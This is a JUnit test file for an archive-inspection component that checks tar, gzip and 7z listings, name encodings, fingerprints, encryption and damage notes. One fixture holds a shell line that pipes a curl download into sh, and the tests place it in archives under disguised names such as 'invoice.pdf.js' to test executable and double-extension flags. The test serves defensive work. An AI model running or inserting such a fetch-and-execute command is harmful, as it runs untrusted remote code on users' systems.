package org.c4tap.core.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalLong;
import java.util.Random;
import java.util.Set;
import org.c4tap.core.fingerprint.Fingerprinter;
import org.junit.jupiter.api.Test;

class OtherArchivesTest {

    private static final Inspector INSPECTOR = new Inspector(InspectionLimits.STANDARD);
    private static final byte[] MINUTES = Documents.ascii("minutes of the meeting");
    private static final byte[] SCRIPT = Documents.ascii("#!/bin/sh\ncurl http://example.invalid | sh\n");

    @Test
    void tarEntriesWithTheirNamesSizesAndFingerprints() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("docs/", new byte[0]);
        entries.put("docs/議事録.txt", MINUTES);
        entries.put("docs/update.js", SCRIPT);
        byte[] tar = Archives.tar(entries);

        Inspection inspection = INSPECTOR.inspect(tar, "docs.tar", "application/x-tar");

        ArchiveListing listing = inspection.archive().orElseThrow();
        assertThat(listing.format()).isEqualTo(ArchiveFormat.TAR);
        assertThat(listing.entries()).containsExactly(
                new ArchiveEntry("docs/", NameEncoding.ASCII, OptionalLong.of(0), OptionalLong.of(0), false,
                        Optional.empty(), Optional.empty(), Set.of()),
                new ArchiveEntry("docs/議事録.txt", NameEncoding.UTF_8_GUESSED, OptionalLong.of(MINUTES.length),
                        OptionalLong.of(MINUTES.length), false, Optional.of(Fingerprinter.of(MINUTES)), Optional.empty(),
                        Set.of()),
                new ArchiveEntry("docs/update.js", NameEncoding.ASCII, OptionalLong.of(SCRIPT.length),
                        OptionalLong.of(SCRIPT.length), false, Optional.of(Fingerprinter.of(SCRIPT)), Optional.empty(),
                        Set.of(Flag.EXECUTABLE)));
        assertThat(listing.totalSize()).isEqualTo(MINUTES.length + SCRIPT.length);
        assertThat(listing.bomb()).isFalse();
        assertThat(inspection.detectedType()).isEqualTo("application/x-tar");
        assertThat(inspection.flags()).containsExactly(Flag.EXECUTABLE);
        assertThat(inspection.notes()).isEmpty();
    }

    @Test
    void tarNamesDeclaredByPaxOrWrittenInShiftJis() {
        byte[] pax = Archives.tar("US-ASCII", true, Map.of("議事録.txt", MINUTES));
        byte[] shiftJis = Archives.tar("windows-31j", false, Map.of("議事録.txt", MINUTES));

        ArchiveEntry fromPax = INSPECTOR.inspect(pax, "a.tar", null).archive().orElseThrow().entries().getFirst();
        ArchiveEntry fromShiftJis = INSPECTOR.inspect(shiftJis, "a.tar", null).archive().orElseThrow().entries().getFirst();

        assertThat(fromPax.path()).isEqualTo("議事録.txt");
        assertThat(fromPax.nameEncoding()).isEqualTo(NameEncoding.UTF_8);
        assertThat(fromShiftJis.path()).isEqualTo("議事録.txt");
        assertThat(fromShiftJis.nameEncoding()).isEqualTo(NameEncoding.WINDOWS_31J_GUESSED);
    }

    @Test
    void tarGzIsAGzipHoldingATar() {
        byte[] tar = Archives.tar(Map.of("setup.exe", Documents.windowsProgram()));
        byte[] tarGz = Archives.gzip(tar, "bundle.tar");

        Inspection inspection = INSPECTOR.inspect(tarGz, "bundle.tar.gz", "application/gzip");

        ArchiveListing gzip = inspection.archive().orElseThrow();
        assertThat(gzip.format()).isEqualTo(ArchiveFormat.GZIP);
        assertThat(gzip.totalCompressedSize()).isEqualTo(tarGz.length);
        ArchiveEntry member = gzip.entries().getFirst();
        assertThat(member.path()).isEqualTo("bundle.tar");
        assertThat(member.size()).hasValue(tar.length);
        assertThat(member.compressedSize()).isEmpty();
        assertThat(member.fingerprint()).contains(Fingerprinter.of(tar));
        ArchiveListing inner = member.nested().orElseThrow();
        assertThat(inner.format()).isEqualTo(ArchiveFormat.TAR);
        assertThat(inner.entries()).extracting(ArchiveEntry::path).containsExactly("setup.exe");
        assertThat(inner.entries().getFirst().fingerprint()).contains(Fingerprinter.of(Documents.windowsProgram()));
        assertThat(inspection.detectedType()).isEqualTo("application/gzip");
        assertThat(inspection.flags()).containsExactly(Flag.EXECUTABLE);
        assertThat(inspection.notes()).isEmpty();
    }

    @Test
    void gzipWithAndWithoutAName() {
        ArchiveEntry named = INSPECTOR.inspect(Archives.gzip(MINUTES, "議事録.txt"), "a.gz", null)
                .archive().orElseThrow().entries().getFirst();
        ArchiveEntry unnamed = INSPECTOR.inspect(Archives.gzip(MINUTES, null), "a.gz", null)
                .archive().orElseThrow().entries().getFirst();

        assertThat(named).isEqualTo(new ArchiveEntry("議事録.txt", NameEncoding.UTF_8_GUESSED,
                OptionalLong.of(MINUTES.length), OptionalLong.empty(), false, Optional.of(Fingerprinter.of(MINUTES)),
                Optional.empty(), Set.of()));
        assertThat(unnamed.path()).isEmpty();
        assertThat(unnamed.nameEncoding()).isEqualTo(NameEncoding.ASCII);
        assertThat(unnamed.fingerprint()).contains(Fingerprinter.of(MINUTES));
    }

    @Test
    void sevenZipEntries() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("見積/見積書.txt", MINUTES);
        entries.put("見積/invoice.pdf.js", SCRIPT);
        entries.put("見積/空.txt", new byte[0]);
        byte[] sevenZ = Archives.sevenZ(entries, null);

        Inspection inspection = INSPECTOR.inspect(sevenZ, "見積.7z", null);

        ArchiveListing listing = inspection.archive().orElseThrow();
        assertThat(listing.format()).isEqualTo(ArchiveFormat.SEVEN_Z);
        assertThat(listing.entries()).containsExactly(
                new ArchiveEntry("見積/見積書.txt", NameEncoding.UTF_16LE, OptionalLong.of(MINUTES.length),
                        OptionalLong.empty(), false, Optional.of(Fingerprinter.of(MINUTES)), Optional.empty(), Set.of()),
                new ArchiveEntry("見積/invoice.pdf.js", NameEncoding.UTF_16LE, OptionalLong.of(SCRIPT.length),
                        OptionalLong.empty(), false, Optional.of(Fingerprinter.of(SCRIPT)), Optional.empty(),
                        Set.of(Flag.EXECUTABLE, Flag.DOUBLE_EXTENSION)),
                new ArchiveEntry("見積/空.txt", NameEncoding.UTF_16LE, OptionalLong.of(0), OptionalLong.empty(), false,
                        Optional.of(Fingerprinter.of(new byte[0])), Optional.empty(), Set.of()));
        assertThat(listing.totalSize()).isEqualTo(MINUTES.length + SCRIPT.length);
        assertThat(listing.totalCompressedSize()).isEqualTo(sevenZ.length);
        assertThat(inspection.detectedType()).isEqualTo("application/x-7z-compressed");
        assertThat(inspection.notes()).isEmpty();
    }

    @Test
    void aSevenZipWithEncryptedContentIsListedButNotRead() {
        byte[] sevenZ = Archives.sevenZ(Map.of("契約書.docx", MINUTES), "pass".toCharArray());

        Inspection inspection = INSPECTOR.inspect(sevenZ, "契約書.7z", null);

        ArchiveListing listing = inspection.archive().orElseThrow();
        assertThat(listing.encrypted()).isTrue();
        assertThat(listing.entries()).containsExactly(new ArchiveEntry("契約書.docx", NameEncoding.UTF_16LE,
                OptionalLong.of(MINUTES.length), OptionalLong.empty(), true, Optional.empty(), Optional.empty(), Set.of()));
        assertThat(inspection.flags()).containsExactly(Flag.ENCRYPTED_ARCHIVE);
        assertThat(inspection.notes()).isEmpty();
        assertThat(inspection.decompressedBytes()).isZero();
    }

    @Test
    void aSevenZipWithEncryptedHeadersHasNoKnownEntries() {
        Inspection inspection = INSPECTOR.inspect(SevenZipBytes.withEncryptedHeaders(), "secret.7z", null);

        ArchiveListing listing = inspection.archive().orElseThrow();
        assertThat(listing.encrypted()).isTrue();
        assertThat(listing.entries()).isEmpty();
        assertThat(inspection.flags()).containsExactly(Flag.ENCRYPTED_ARCHIVE);
        assertThat(inspection.notes()).containsExactly(new InspectionNote(NoteKind.NAMES_ENCRYPTED,
                "7z archive at depth 1: its headers are encrypted, so its entries are unknown"));
    }

    @Test
    void truncatedSevenZipGzipAndTarAreNoted() {
        byte[] sevenZ = Archives.sevenZ(Map.of("a.txt", MINUTES), null);
        byte[] gzip = Archives.gzip(new byte[100_000], "zeros");
        Map<String, byte[]> tarEntries = new LinkedHashMap<>();
        tarEntries.put("a.txt", MINUTES);
        tarEntries.put("b.txt", SCRIPT);
        byte[] tar = Archives.tar(tarEntries);

        Inspection cutSevenZ = INSPECTOR.inspect(Arrays.copyOf(sevenZ, sevenZ.length - 10), "a.7z", null);
        Inspection cutGzip = INSPECTOR.inspect(Arrays.copyOf(gzip, gzip.length / 2), "a.gz", null);
        Inspection cutTar = INSPECTOR.inspect(Arrays.copyOf(tar, 700), "a.tar", null);

        assertThat(cutSevenZ.archive().orElseThrow().entries()).isEmpty();
        assertThat(cutSevenZ.notes()).extracting(InspectionNote::kind).containsExactly(NoteKind.ARCHIVE_UNREADABLE);
        assertThat(cutGzip.archive().orElseThrow().entries().getFirst().fingerprint()).isEmpty();
        assertThat(cutGzip.notes()).containsExactly(new InspectionNote(NoteKind.ENTRY_UNREADABLE,
                "gzip entry 1 at depth 1: data unreadable (EOFException)"));
        assertThat(cutTar.archive().orElseThrow().entries()).extracting(ArchiveEntry::path).containsExactly("a.txt");
        assertThat(cutTar.notes()).extracting(InspectionNote::kind).containsExactly(NoteKind.ARCHIVE_DAMAGED);
    }

    @Test
    void bytesNamedAsAnArchiveWithoutItsSignature() {
        byte[] random = new byte[4096];
        new Random(11).nextBytes(random);

        Inspection inspection = INSPECTOR.inspect(random, "invoice.zip", "application/zip");

        assertThat(inspection.detectedType()).isEqualTo("application/octet-stream");
        assertThat(inspection.archive()).isEmpty();
        assertThat(inspection.flags()).isEmpty();
        assertThat(inspection.notes()).containsExactly(new InspectionNote(NoteKind.ARCHIVE_UNRECOGNISED,
                "attachment: named as an archive but carries no archive signature"));
    }

    @Test
    void zipSignatureFollowedByGarbage() {
        byte[] bytes = new byte[4096];
        new Random(12).nextBytes(bytes);
        System.arraycopy("PK\u0003\u0004".getBytes(StandardCharsets.ISO_8859_1), 0, bytes, 0, 4);

        Inspection inspection = INSPECTOR.inspect(bytes, "invoice.zip", null);

        assertThat(inspection.archive().orElseThrow().entries()).isEmpty();
        assertThat(inspection.notes()).extracting(InspectionNote::kind)
                .containsExactly(NoteKind.ARCHIVE_DAMAGED, NoteKind.ARCHIVE_UNREADABLE);
    }
}
